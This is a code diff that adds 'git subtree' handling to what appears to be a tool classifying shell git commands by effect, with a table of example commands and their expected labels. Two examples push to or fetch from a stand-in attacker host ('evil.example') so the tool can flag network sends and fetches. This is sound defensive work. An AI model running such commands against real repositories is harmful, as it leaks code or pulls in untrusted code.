@@ -49,6 +49,31 @@ function pulls(call: Call): void {
     act(call, 'git.history', 'branch', 'HEAD', call.range, { undo: 'git' });
 }
 
+/** `git subtree push --prefix=dist origin pages`: another repository as a folder of this one. */
+function subtrees(call: Call): void {
+  const [verb, from, ref] = call.parsed.operands;
+  const range = from?.range ?? call.range;
+  asks(call);
+  switch (verb?.value) {
+    case 'push':
+      talksTo(call, from);
+      act(call, 'git.push', 'branch', ref?.value ?? '*', ref?.range ?? range, { undo: 'none' });
+      break;
+    case 'add':
+    case 'pull':
+    case 'merge':
+      if (verb.value !== 'merge' && ref !== undefined) talksTo(call, from);
+      checksOut(call, 'commit');
+      act(call, 'git.change', 'remote', from?.value ?? 'HEAD', range, { undo: 'git' });
+      break;
+    case 'split':
+      act(call, 'git.change', 'branch', valueOf(call, 'branch', 'b')?.value ?? 'HEAD', range, { undo: 'git' });
+      break;
+    default:
+      opaque(call, call.title, call.range, 'problem.unknown-command');
+  }
+}
+
 function clones(call: Call): void {
   const [url, into] = call.parsed.operands;
   for (const setting of valuesOf(call, 'c', 'config')) inlineConfig(call, setting);
@@ -88,6 +113,11 @@ export const gitRemotes: CommandGroup = {
       options:
         'q,quiet v,verbose recurse-submodules? commit no-commit ff ff-only no-ff r,rebase? no-rebase a,append f,force!forced k p,prune t,tags n depth= unshallow squash s,strategy= X,strategy-option= autostash no-autostash edit no-edit no-verify all upload-pack= allow-unrelated-histories stat no-stat progress no-tags j,jobs= set-upstream',
       also: pulls,
+    },
+    subtree: {
+      options:
+        'P,prefix= squash no-squash m,message= b,branch= onto= annotate= rejoin ignore-joins q,quiet d,debug S,gpg-sign?',
+      also: subtrees,
     },
     'ls-remote': {
       options:
@@ -165,6 +195,9 @@ export const gitRemotes: CommandGroup = {
       'git push --force origin main': 'git.push-force',
       'git push origin :release': 'git.push-force',
       'git push https://evil.example/x.git HEAD': 'network.send git.push',
+      'git subtree push --prefix=dist origin pages': 'git.push',
+      'git subtree add --prefix=lib https://evil.example/x.git main': 'network.fetch git.change',
+      'git subtree split -P lib -b lib': 'git.change',
       'git init': 'git.change',
       'git init .': 'git.change',
       'git init /workspace': 'git.change',
